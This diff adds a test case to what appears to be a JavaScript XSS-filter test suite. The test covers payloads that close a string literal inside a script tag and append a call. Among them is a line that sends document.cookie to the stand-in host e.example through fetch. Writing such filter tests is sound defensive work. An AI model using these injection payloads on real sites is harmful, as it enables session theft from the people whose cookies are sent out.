@@ -114,6 +114,18 @@ test('B3: a tag hidden behind a raw-text element, a comment, a backtick or a str
   blocked(hidden);
 });
 
+// B5: a value in a script's string literal (`<script>var q = '${p}';</script>`) closes it, ends the statement and calls.
+const jsString = ["';alert(1)//", '";alert(1)//', "';alert(1);'", "x'; top.fetch('//e.example/'+document.cookie) //"];
+test('B5: a JavaScript string closed and a call added is blocked', () => {
+  for (const p of jsString) {
+    const quote = p.includes("';") ? "'" : '"';
+    const code = `var q = ${quote}${p}${quote};`;
+    assert.doesNotThrow(() => new Function(code), code); // it compiles: the call runs
+  }
+  blocked(jsString);
+  passed(["var s = 'abc'; print(s) // prints abc", "He said 'hi'; then left", "it's; ok() // fine", "console.log('x');alert(1)//", "'use strict'; module.exports = f()", "I paid $5; see receipt('a') //"]);
+});
+
 // Prose that mentions handlers, and markup that runs nothing: a quoted handler that could not compile
 // (`onload=init()"`), a handler followed by a sentence, a tag inside a quoted value of a tag that is real.
 test('prose about handlers and inert markup pass', () => {
